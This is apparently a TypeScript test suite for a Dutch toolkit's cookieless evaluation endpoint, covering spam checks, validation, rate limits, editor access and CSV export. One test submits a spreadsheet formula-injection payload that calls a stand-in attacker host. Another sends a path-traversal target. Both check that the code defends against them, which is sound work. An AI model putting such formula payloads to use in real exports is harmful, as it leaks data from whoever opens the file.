/**
 * Evaluation without cookies (issue 18): answers from the site's own origin
 * are stored, with nothing about the sender (no IP address, no cookie set);
 * spam (honeypot, too fast), floods and bad input are refused with a Dutch
 * 4xx naming the field; editors see the results per method and per session
 * and export them as CSV; nobody else does, and nobody writes answers
 * through the collection API.
 */
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { EVALUATIONS } from '../src/collections/Evaluations.ts'
import { methodNames } from '../src/evaluation/methodNames.ts'
import { MAX_PER_WINDOW, MIN_FILL_MS } from '../src/evaluation/submit.ts'
import { startTestCms, type TestCms } from './helpers/cms.ts'

let cms: TestCms
let editor: string
const SITE = 'http://localhost:4321'

beforeAll(async () => {
  cms = await startTestCms('evaluation')
  await cms.payload.create({ collection: 'users', data: { email: 'redactie@example.org', password: 'Geheim-wachtwoord-2', roles: ['editor'] }, overrideAccess: true })
  editor = await cms.login('redactie@example.org', 'Geheim-wachtwoord-2')
})
afterAll(() => cms?.close())

let sender = 0
/** Each call from its own address unless one is given, so the flood limit stays out of the other tests. */
const send = (body: unknown, options: { origin?: string | null; ip?: string; raw?: string } = {}) =>
  cms.rest('POST', '/evaluatie', {
    rawBody: options.raw ?? JSON.stringify(body),
    headers: {
      'Content-Type': 'text/plain;charset=UTF-8',
      'x-forwarded-for': options.ip ?? `203.0.113.${++sender}`,
      ...(options.origin === null ? {} : { Origin: options.origin ?? SITE }),
    },
  })
const session = (extra: Record<string, unknown> = {}) => ({
  kind: 'session', target: 's-abc123def', useful: 4, actionsClear: 5, willApply: 3, comment: 'Goed gesprek over hoop.', website: '', startedAt: Date.now() - MIN_FILL_MS - 2000, ...extra,
})

describe('sending an evaluation', () => {
  it('stores the answers from the site, sets no cookie and stores nothing about the sender', async () => {
    const response = await send(session(), { ip: '198.51.100.7' })
    expect(response.status).toBe(201)
    expect(response.headers.get('set-cookie')).toBeNull()
    expect(response.headers.get('access-control-allow-origin')).toBe(SITE)
    expect(await response.json()).toEqual({ message: 'Dank je wel! Je evaluatie is opgeslagen.' })
    const { docs } = await cms.payload.find({ collection: EVALUATIONS, overrideAccess: true, where: { target: { equals: 's-abc123def' } } })
    expect(docs).toHaveLength(1)
    expect(docs[0]).toMatchObject({ kind: 'session', useful: 4, actionsClear: 5, willApply: 3, comment: 'Goed gesprek over hoop.' })
    // No field holds the address, in any form.
    expect(JSON.stringify(docs[0])).not.toContain('198.51.100.7')
    expect(Object.keys(docs[0]!).sort()).toEqual(['actionsClear', 'comment', 'createdAt', 'id', 'kind', 'target', 'updatedAt', 'useful', 'willApply'])
  })

  it('takes "Heb je dit gebruikt?" about a method: a score and a comment', async () => {
    const response = await send({ kind: 'method', target: 'werkvormen/de-rol-van-empowerment', useful: 5, comment: 'Werkte goed in ons team.', startedAt: Date.now() - 10_000 })
    expect(response.status).toBe(201)
  })

  it('refuses answers from another origin, or without one', async () => {
    for (const origin of ['https://elders.example', null]) {
      const response = await send(session(), { origin })
      expect(response.status).toBe(403)
      expect((await response.json()).message).toBe('Evaluaties worden alleen aangenomen vanaf de website van de toolkit.')
    }
  })

  it('refuses spam: a filled honeypot, a form sent faster than a person fills it in', async () => {
    const honeypot = await send(session({ website: 'http://spam.example' }))
    expect(honeypot.status).toBe(422)
    expect(await honeypot.json()).toMatchObject({ field: 'website' })
    const fast = await send(session({ startedAt: Date.now() - 500 }))
    expect(fast.status).toBe(422)
    expect(await fast.json()).toMatchObject({ field: 'startedAt', message: expect.stringContaining('te snel verstuurd') })
  })

  it('answers bad input with a 400 that names the field, in Dutch, never a 5xx', async () => {
    const cases: Array<[unknown, string, RegExp]> = [
      [session({ useful: 9 }), 'useful', /Kies bij ‘Hoe nuttig vond je de bijeenkomst\?’ een waarde van 1 tot 5\./],
      [session({ willApply: undefined }), 'willApply', /een waarde van 1 tot 5/],
      [session({ target: '../../etc' }), 'target', /geen bekende bijeenkomst/],
      [session({ kind: 'quiz' }), 'kind', /Onbekend soort evaluatie/],
      [session({ comment: 'x'.repeat(1001) }), 'comment', /te lang/],
      [{ kind: 'method', target: 'werkvormen/x', useful: 3 }, 'startedAt', /ontbreekt/],
    ]
    for (const [body, field, message] of cases) {
      const response = await send(body)
      expect(response.status, field).toBe(400)
      const answer = await response.json()
      expect(answer.field, field).toBe(field)
      expect(answer.message, field).toMatch(message)
    }
    const garbage = await send(undefined, { raw: '{niet json' })
    expect(garbage.status).toBe(400)
    expect((await garbage.json()).message).toBe('De evaluatie kon niet worden gelezen (geen geldige JSON).')
  })

  it('limits a flood from one sender, with a Dutch 429', async () => {
    const statuses: number[] = []
    for (let i = 0; i < MAX_PER_WINDOW + 2; i++) statuses.push((await send(session({ target: 's-flood00001' }), { ip: '192.0.2.99' })).status)
    expect(statuses.slice(0, MAX_PER_WINDOW).every((status) => status === 201)).toBe(true)
    expect(statuses.slice(MAX_PER_WINDOW)).toEqual([429, 429])
    // Another sender is not held up.
    expect((await send(session({ target: 's-flood00001' }), { ip: '192.0.2.100' })).status).toBe(201)
  })

  it('cannot be written or read through the collection API by the public', async () => {
    const created = await cms.rest('POST', `/${EVALUATIONS}`, { body: { kind: 'session', target: 's-direct0001', useful: 5 } })
    expect(created.status).toBe(403)
    const listed = await cms.rest('GET', `/${EVALUATIONS}`)
    expect(listed.status).toBe(403)
    expect((await cms.rest('GET', '/evaluatie/resultaten')).status).toBe(403)
    expect((await cms.rest('GET', '/evaluatie/resultaten.csv')).status).toBe(403)
  })
})

describe('results for editors', () => {
  it('per method and per session: count, averages, comments', async () => {
    await send(session({ useful: 2, actionsClear: 3, willApply: 5, comment: '' }))
    const response = await cms.rest('GET', '/evaluatie/resultaten', { token: editor })
    expect(response.status).toBe(200)
    const { results } = await response.json()
    const sessionResult = results.find((result: { target: string }) => result.target === 's-abc123def')
    expect(sessionResult).toMatchObject({ kind: 'session', target: 's-abc123def', count: 2, averages: { useful: 3, actionsClear: 4, willApply: 4 }, comments: ['Goed gesprek over hoop.'] })
    // A session's code says nothing about when it was: its first and last answer do.
    const { docs } = await cms.payload.find({ collection: EVALUATIONS, overrideAccess: true, where: { target: { equals: 's-abc123def' } }, sort: 'createdAt' })
    expect([sessionResult.firstAt, sessionResult.lastAt]).toEqual([docs[0]!.createdAt, docs[1]!.createdAt])
    const method = results.find((result: { target: string }) => result.target === 'werkvormen/de-rol-van-empowerment')
    expect(method).toMatchObject({ kind: 'method', count: 1, averages: { useful: 5, actionsClear: null, willApply: null }, comments: ['Werkte goed in ons team.'] })
  })

  it('names a method by its title, with a link to it in the admin, not by its path', async () => {
    const doc = await cms.payload.create({ collection: 'activities', data: { title: 'De rol van empowerment', slug: 'de-rol-van-empowerment' }, draft: true, overrideAccess: true })
    const { docs } = await cms.payload.find({ collection: 'users', where: { email: { equals: 'redactie@example.org' } }, overrideAccess: true })
    const req = { payload: cms.payload, user: { ...docs[0], collection: 'users' } } as never
    const names = await methodNames(req, ['werkvormen/de-rol-van-empowerment', 'werkvormen/bestaat-niet'])
    expect(Object.fromEntries(names)).toEqual({
      'werkvormen/de-rol-van-empowerment': { title: 'De rol van empowerment', href: `/admin/collections/activities/${doc.id}` },
    })
  })

  it('every answer as CSV for a spreadsheet', async () => {
    const response = await cms.rest('GET', '/evaluatie/resultaten.csv', { token: editor })
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    const rows = parse((await response.text()).replace(/^\uFEFF/, ''), { delimiter: ';', columns: true }) as Array<Record<string, string>>
    expect(rows.find((row) => row.opmerking === 'Werkte goed in ons team.')).toMatchObject({ soort: 'methode', 'bijeenkomst of methode': 'werkvormen/de-rol-van-empowerment', nuttig: '5' })
    expect(rows.filter((row) => row['bijeenkomst of methode'] === 's-abc123def')).toHaveLength(2)
  })

  it('writes a comment that starts like a formula as text: anyone may send one, and an editor opens the file in Excel', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    expect((await send(session({ comment: formula }), { ip: '198.51.100.61' })).status).toBe(201)
    const response = await cms.rest('GET', '/evaluatie/resultaten.csv', { token: editor })
    const rows = parse((await response.text()).replace(/^\uFEFF/, ''), { delimiter: ';', columns: true }) as Array<Record<string, string>>
    expect(rows.map((row) => row.opmerking)).toContain(`'${formula}`)
    expect(rows.map((row) => row.opmerking)).not.toContain(formula)
  })

  it('gives each answer’s time as the Dutch clock shows it, with its offset, in winter and in summer', async () => {
    // Answers that came in at a known moment (the endpoint stamps "now"; here the stored time is set).
    const at = (createdAt: string) => cms.payload.create({ collection: EVALUATIONS, overrideAccess: true, data: { kind: 'session', target: 's-klokproef1', useful: 3, actionsClear: 3, willApply: 3, createdAt } })
    await at('2026-12-07T10:12:48.000Z')
    await at('2026-07-01T08:05:00.000Z')
    const response = await cms.rest('GET', '/evaluatie/resultaten.csv', { token: editor })
    const rows = parse((await response.text()).replace(/^\uFEFF/, ''), { delimiter: ';', columns: true }) as Array<Record<string, string>>
    const times = rows.filter((row) => row['bijeenkomst of methode'] === 's-klokproef1').map((row) => row.ingestuurd).sort()
    expect(times).toEqual(['2026-07-01T10:05:00+02:00', '2026-12-07T11:12:48+01:00'])
    // Still the same moment for a script.
    expect(times.map((time) => new Date(time!).toISOString()).sort()).toEqual(['2026-07-01T08:05:00.000Z', '2026-12-07T10:12:48.000Z'])
  })
})
